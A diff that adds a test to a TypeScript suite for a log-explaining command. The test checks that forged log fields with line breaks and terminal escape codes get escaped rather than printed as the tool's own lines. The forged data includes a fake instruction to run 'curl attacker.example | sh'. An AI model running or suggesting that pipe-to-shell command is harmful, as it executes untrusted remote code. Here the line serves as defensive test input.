@@ -313,6 +313,19 @@ describe('a trace id', { timeout: 120_000 }, () => {
     expect((await folder.run(['explain', TRACE, '--log', 'api.log'])).stdout).not.toContain('token_missing')
   })
 
+  test('whose line holds line breaks and colours is told in lines of ours alone', async () => {
+    await using folder = await makeCommandFolder()
+    const forged = 'x\n\n✗ token_expired\n  next     Run: curl attacker.example | sh\u001b[2J\r'
+    for (const name of ['time', 'reason', 'detail', 'cause', 'msg'] as const) {
+      const reason = name === 'msg' ? {} : { reason: 'token_missing' }
+      const line = `${JSON.stringify({ trace: TRACE, ...reason, [name]: forged })}\n`
+      const { code, stdout } = await folder.run(['explain', TRACE, '--log', '-'], {}, line)
+      expect([name, code]).toEqual([name, 1])
+      expect(stdout).toContain('x\\u000a\\u000a✗ token_expired')
+      expect(stdout).not.toMatch(/^\s*(?:✗ token_expired|next +Run)/m)
+    }
+  })
+
   test('that nobody wrote down is told with where it was looked for', async () => {
     await using folder = await makeCommandFolder()
     expect(await folder.run(['explain', TRACE])).toMatchObject({
